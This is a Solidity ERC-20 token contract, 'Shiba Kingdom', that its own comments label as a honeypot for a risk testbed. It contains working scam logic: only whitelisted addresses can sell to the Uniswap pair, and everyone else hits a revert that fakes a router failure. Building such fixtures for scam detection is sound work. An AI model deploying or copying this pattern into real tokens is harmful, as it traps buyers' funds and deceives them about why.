// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite} from "./RtCommon.sol";

/// @title RtShibaKingdom
/// @notice Honeypot: only addresses on a "fee exclusion" list may sell to
/// the pair; everyone else hits a revert that imitates a router failure.
/// (Risk-testbed token; see RtCommon.sol.)
contract RtShibaKingdom is RtERC20Lite {
    address public immutable uniswapV2Pair;
    address private _marketingWallet;
    mapping(address => bool) private _isExcludedFromFee;

    constructor(address router) RtERC20Lite("Shiba Kingdom", "SHIBK", 18) {
        _marketingWallet = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        uniswapV2Pair = _createPair(router);
        _mint(msg.sender, 1_000_000_000 ether);
    }

    /// @notice Excludes an account from fees (marketing wallet only).
    function excludeFromFee(address account) external {
        require(msg.sender == _marketingWallet);
        _isExcludedFromFee[account] = true;
    }

    function isExcludedFromFee(address account) external view returns (bool) {
        return _isExcludedFromFee[account];
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapV2Pair) _checkSwapBack(from);
        super._transfer(from, to, amount);
    }

    function _checkSwapBack(address from) private view {
        if (!_isExcludedFromFee[from]) revert("UniswapV2: TRANSFER_FAILED");
    }
}
